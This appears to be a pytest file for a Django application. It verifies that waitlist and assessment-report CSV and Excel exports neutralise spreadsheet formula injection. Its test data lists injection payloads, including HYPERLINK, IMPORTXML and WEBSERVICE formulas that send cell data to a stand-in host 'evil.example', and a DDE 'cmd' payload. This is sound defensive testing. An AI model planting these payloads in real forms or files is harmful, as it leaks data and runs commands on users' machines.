"""Exports carry no formulas (S-12): the writer by itself, the waitlist and tables through their doors."""

from __future__ import annotations

import csv
import re
import unicodedata
import zipfile
from datetime import datetime
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.exports import HEADS
from accounts.models import WaitlistEntry
from assessments.engine.display import tenths, whole
from assessments.results import results_for
from assessments.services.assessments import rename_assessment
from records.exports import NOT_IN_EXCEL, Value, csv_file, excel_file, harmless
from records.models import Event
from reports.document.figures import FIGURES
from tests.builders import answer, bami_spec, make_assessment, make_confirmed, make_submitted

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2003\u200d\u2060 =1+1",
    "a\n=1+1",
    "a\r\n\t -1+1",
    "a\u2028=1+1",
    "a\x0b@SUM(1)",
    "a;=1+1",
    "a\t=1+1",
    '","=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://evil.example\")",
    "=IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
    "\x00=1+1",
    "\u202e=1+1",
    "'=1+1\n=2+2",
    "\t",
    "\r\n",
)  # fmt: skip
DANGEROUS = set("=+-@\t\r\n＝＋－＠")
UNSEEN = "\u00a0\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e\u200f\u202e\u0000"
TYPED = ("name", "email", "organisation_name", "consent", "note")  # what somebody wrote


def begins_like_a_formula(cell: str) -> bool:
    """The rule of the trust page: on each line, after blanks and signs without width."""
    lines = re.split(r"\r\n|[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", cell)
    if cell and cell[0] in "\t\r\n":
        return True
    for line in lines:
        seen = line.lstrip(" ")
        while seen and (seen[0] in UNSEEN or unicodedata.category(seen[0]) in ("Zs", "Cf")):
            seen = seen[1:]
        if seen[:1] in DANGEROUS and seen:
            return True
    return False


def live_in_csv(content: bytes) -> int:
    """Cells that a spreadsheet would run, whether it parts them by commas or by semicolons."""
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
    cells += [part for cell in cells for part in cell.split(";")]
    return sum(map(begins_like_a_formula, cells))


def live_in_excel(content: bytes) -> int:
    """Formulas, links to elsewhere, and cells that hold a text as anything but a text."""
    with zipfile.ZipFile(BytesIO(content)) as parts:
        names = parts.namelist()
        sheets = [parts.read(name).decode() for name in names if name.startswith("xl/worksheets/")]
    live = sum(sheet.count("<f>") + sheet.count("<f ") + sheet.count("<hyperlink") for sheet in sheets)
    live += sum("externalLink" in name for name in names)
    for sheet in load_workbook(BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            live += sum(cell.data_type not in ("s", "n", "d", "inlineStr") for cell in row)
    return live


def sheet_of(content: bytes) -> Any:
    return load_workbook(BytesIO(content)).active


def test_the_rule_finds_what_it_looks_for():
    """Each payload as it was typed would be found, were it not marked."""
    rows = StringIO()
    csv.writer(rows, quoting=csv.QUOTE_ALL).writerows([[payload] for payload in PAYLOADS])
    found = [payload for payload in PAYLOADS if live_in_csv(csv_of([[payload]]))]
    harmless_as_typed = {'","=1+1', "a\t=1+1"}
    assert set(PAYLOADS) - set(found) == harmless_as_typed


def csv_of(rows):
    text = StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows(rows)
    return text.getvalue().encode("utf-8-sig")


@pytest.mark.check("S-12")
@pytest.mark.parametrize("column", range(len(HEADS)), ids=HEADS)
def test_no_column_of_the_writer_carries_a_formula(column, figure):
    rows = [["x"] * column + [payload] + ["x"] * (len(HEADS) - column - 1) for payload in PAYLOADS]
    live = live_in_csv(csv_file(HEADS, rows)) + live_in_excel(excel_file("Waitlist", HEADS, rows))
    figure("S-12", cells=2 * len(PAYLOADS), live=live)
    assert live == 0


@pytest.mark.check("S-12")
def test_no_export_of_the_waitlist_carries_a_formula(cast, sign_in, figure):
    for number, typed in enumerate(PAYLOADS):
        payload = typed.replace("\x00", "\x01")  # PostgreSQL keeps no null byte
        make_confirmed(**dict.fromkeys(TYPED, f"{payload}{number}"))
    client = sign_in(cast.programme_admin)
    text = client.get("/programme/waitlist/export/csv/").content
    book = client.get("/programme/waitlist/export/xlsx/").content
    live = live_in_csv(text) + live_in_excel(book)
    figure("S-12", cells=2 * len(PAYLOADS) * len(TYPED), live=live)
    assert live == 0
    rows = list(csv.reader(StringIO(text.decode("utf-8-sig"), newline="")))
    assert (rows[0], len(rows)) == (list(HEADS), 1 + len(PAYLOADS))
    sheet = sheet_of(book)
    assert [cell.value for cell in sheet[1]] == list(HEADS)
    names = {row[0].value for row in sheet.iter_rows(min_row=2)}
    assert {f"=1+1{0}", "@SUM(A1:A9)3", '=HYPERLINK("https://evil.example?"&A1,"Open")24'} <= names


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("Ada Byron", "Ada Byron"),
        ("", ""),
        ("Smith-Jones + Sons", "Smith-Jones + Sons"),
        ("=1", "'=1"),
        ("a\n=1\nb", "a\n'=1\nb"),
        ("a\n\nb", "a\n\nb"),
        ("\nb", "'\nb"),
        ("x; -y", "x;' -y"),
        ("   ", "   "),
    ],
)
def test_only_what_could_run_is_marked(text, marked):
    assert harmless(text) == marked


def test_values_keep_their_kind():
    moment = datetime(2026, 11, 28, 14, 2)  # noqa: DTZ001  # a file knows no zones
    rows: list[list[Value]] = [["Ada", 3, moment, None]]
    sheet = sheet_of(excel_file("Sheet", ["a", "b", "c", "d"], rows))
    assert [cell.value for cell in sheet[2]] == ["Ada", 3, moment, None]
    assert csv_file(["a", "b", "c", "d"], rows).decode("utf-8-sig").splitlines()[1] == (
        '"Ada","3","2026-11-28 14:02",""'
    )


def test_an_export_says_what_the_list_says(cast, sign_in):
    entry = make_confirmed(name="Ada Byron", note="First line\nsecond", updates=True)
    make_confirmed(name="Left out", kind="cdmo")
    client = sign_in(cast.programme_admin)
    reply = client.get("/programme/waitlist/export/csv/?kind=manufacturer")
    (row,) = list(csv.DictReader(StringIO(reply.content.decode("utf-8-sig"), newline="")))
    assert (row["Name"], row["E-mail"], row["Country"]) == ("Ada Byron", entry.email, "Denmark")
    assert (row["State"], row["Note"]) == ("Confirmed", "First line\nsecond")
    assert row["Interests"] == "Early access for one of our sites, Updates"
    assert reply["Content-Disposition"].startswith('attachment; filename="waitlist-2')
    assert reply["Content-Type"] == "text/csv; charset=utf-8"
    assert reply["Cache-Control"] == "no-store"
    assert WaitlistEntry.objects.count() == 2


def typed_everywhere(cast):
    """A submitted assessment in whose every own word a formula begins; the texts as they were typed."""
    title = "=1+1 baseline"
    assessment = make_assessment(site=cast.site, owner=cast.owner, title=title)
    rename_assessment(actor=cast.owner, assessment=assessment, title=title, scope="@SUM(A1:A9)")
    codes = list(bami_spec().questions)
    typed = {title, "@SUM(A1:A9)"}
    for number, payload in enumerate(PAYLOADS):
        text = payload.replace("\x00", "\x01") + str(number)  # PostgreSQL keeps no null byte
        answer(assessment, cast.owner, codes[number], 2, comment=text, evidence_note=text)
        typed.add(text)
    return assessment, typed


def one_break(text: str) -> str:
    return re.sub(r"\r\n?", "\n", text)


@pytest.mark.check("S-12")
def test_no_table_of_an_assessment_carries_a_formula(cast, sign_in, figure):
    assessment, typed = typed_everywhere(cast)
    client = sign_in(cast.viewer)
    book = client.get(reverse("reports:tables", args=[assessment.uuid]))
    text = client.get(reverse("reports:plan_table", args=[assessment.uuid]))
    charts = [
        client.get(reverse("reports:figure", args=[assessment.uuid, name, "csv"])).content for name in FIGURES
    ]
    live = live_in_excel(book.content) + sum(map(live_in_csv, [text.content, *charts]))
    pages = load_workbook(BytesIO(book.content)).worksheets
    held = {str(cell.value) for page in pages for row in page.iter_rows() for cell in row}
    figure("S-12", cells=len(held), live=live)
    assert live == 0
    # A reader of the file takes each line break for the one of its own system.
    lost = {one_break(NOT_IN_EXCEL.sub("", words)) for words in typed} - set(map(one_break, held))
    assert lost == set()


def test_the_workbook_says_what_the_results_say(cast, sign_in):
    assessment = make_submitted(site=cast.site, owner=cast.owner)
    reply = sign_in(cast.viewer).get(reverse("reports:tables", args=[assessment.uuid]))
    assert reply["Content-Disposition"].startswith("attachment")
    assert "sandbox" in reply["Content-Security-Policy"]
    book = load_workbook(BytesIO(reply.content))
    assert book.sheetnames == [
        "About",
        "Levels",
        "AI uses",
        "Gaps",
        "Plan",
        "Projection",
        "Answers",
    ]
    found, claimed = results_for(assessment), results_for(assessment).readings.claimed
    about = {row[0].value: row[1].value for row in book["About"].iter_rows(min_row=2)}
    assert about["Index of 100"] == whole(claimed.index)
    assert about["Held back by the digital plant"] == whole(claimed.held_back)
    assert about["Level claimed"] == claimed.level
    levels = {row[0].value: [cell.value for cell in row] for row in book["Levels"].iter_rows(min_row=2)}
    for code, row in claimed.dimensions.items():
        assert (levels[code][2], levels[code][7]) == (row.level, row.effective_level)
        assert f"{levels[code][9]:.1f}" == tenths(row.score)
    assert [row[0].value for row in book["Plan"].iter_rows(min_row=2)] == [
        step.action for step in found.roadmap.actions
    ]
    ranked = [(row[1].value, row[6].value) for row in book["Gaps"].iter_rows(min_row=2) if row[0].value]
    assert ranked == [(gap.question, gap.priority) for gap in found.gaps.questions]
    assert book["AI uses"].max_row == 1 + len(found.use_cases)
    assert book["Answers"].max_row == 51
    taken = Event.objects.of(cast.organisation).filter(action="tables.exported")
    assert [event.after_json["what"] for event in taken] == ["workbook"]


def test_the_plan_is_a_table_of_its_actions(cast, sign_in):
    assessment = make_submitted(site=cast.site, owner=cast.owner)
    reply = sign_in(cast.viewer).get(reverse("reports:plan_table", args=[assessment.uuid]))
    rows = list(csv.DictReader(StringIO(reply.content.decode("utf-8-sig"), newline="")))
    steps = results_for(assessment).roadmap.actions
    assert [(row["Code"], row["First week"], row["Last week"]) for row in rows] == [
        (step.action, str(step.start + 1), str(step.end)) for step in steps
    ]
    assert reply["Content-Type"] == "text/csv; charset=utf-8"


def test_tables_of_an_empty_draft_are_there(cast, sign_in, assessment):
    client = sign_in(cast.owner)
    book = load_workbook(BytesIO(client.get(reverse("reports:tables", args=[assessment.uuid])).content))
    assert book["Plan"].max_row == 1
    assert {row[3].value for row in book["Answers"].iter_rows(min_row=2)} == {"Unanswered"}


def test_no_stranger_takes_tables(cast, sign_in, assessment):
    for name in ("tables", "plan_table"):
        address = reverse(f"reports:{name}", args=[assessment.uuid])
        assert sign_in(cast.stranger).get(address).status_code == 404
        assert sign_in(cast.owner).post(address).status_code == 405
